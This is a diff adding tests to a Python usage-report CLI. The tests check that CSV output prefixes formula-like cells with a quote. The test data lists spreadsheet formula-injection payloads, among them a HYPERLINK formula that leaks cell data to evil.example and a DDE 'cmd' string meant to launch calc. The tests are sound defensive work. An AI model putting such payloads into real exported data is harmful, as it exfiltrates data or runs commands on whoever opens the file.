@@ -10,6 +10,8 @@ import asyncio
 import csv
 import io
 import json
+import subprocess
+import sys
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
@@ -209,6 +211,70 @@ def test_the_table_shows_a_dash_where_a_group_has_no_value(filled: Ledger) -> No
     lines = filled.usage("--by", "team", "--since", "90d").stdout.splitlines()
 
     assert [line.split()[:2] for line in lines[1:]] == [["ml", "2"], ["-", "3"]]
+
+
+MAY = datetime(2020, 5, 1, tzinfo=UTC)
+IN_MAY = ("--since", "2020-05-01", "--until", "2020-05-02")
+# Texts from request bodies and keys, which reach the report as they were written.
+HOSTILE_MODELS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tx",
+    "\rx",
+    "a=b",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Ledger:
+    gateway = GatewayHarness(Path(tmp_path_factory.mktemp("usage-cli-hostile")), providers={})
+    gateway.cli("db", "upgrade")
+
+    async def fill() -> None:
+        engine = create_engine(gateway.effective_database_url)
+        try:
+            records = [
+                usage(MAY + timedelta(minutes=n), "acme", model, "-0.5" if n == 0 else "1", user="=cmd")
+                for n, model in enumerate(HOSTILE_MODELS)
+            ]
+            await UsageRepository(engine).insert_many(records)
+        finally:
+            await engine.dispose()
+
+    asyncio.run(fill())
+    return Ledger(gateway)
+
+
+def test_csv_texts_that_could_start_a_formula_get_a_leading_quote_and_numbers_stay_as_they_are(
+    hostile: Ledger,
+) -> None:
+    arguments = ("usage", "--by", "model,user", *IN_MAY, "--format", "csv")
+    output = stdout_as_written(hostile.gateway, *arguments)  # a carriage return kept as it is
+
+    rows = list(csv.reader(io.StringIO(output, newline="")))
+    assert {(row[0], row[1], row[9]) for row in rows[1:]} == {
+        ("'+cmd|' /C calc'!A0", "'=cmd", "1"),
+        ("'-2+3", "'=cmd", "1"),
+        ('\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=cmd", "-0.5"),
+        ("'@SUM(1+1)", "'=cmd", "1"),
+        ("'\tx", "'=cmd", "1"),
+        ("'\rx", "'=cmd", "1"),
+        ("a=b", "'=cmd", "1"),
+    }
+
+
+def stdout_as_written(gateway: GatewayHarness, *arguments: str) -> str:
+    """What `tollgate ARGUMENTS` writes, without the newline translation of `GatewayHarness.cli`."""
+    command = [sys.executable, "-m", "gateway", "--config", str(gateway.config_path), *arguments]
+    return subprocess.run(command, capture_output=True, check=True, timeout=60).stdout.decode()
+
+
+def test_help_says_how_csv_keeps_spreadsheets_from_running_texts(filled: Ledger) -> None:
+    text = " ".join(filled.usage("--help").stdout.split())
+
+    assert "starting with =, +, -, @, a tab or a carriage return is written after a '" in text
 
 
 def test_a_sum_past_64_bits_is_reported_as_such_not_as_an_unreachable_database(
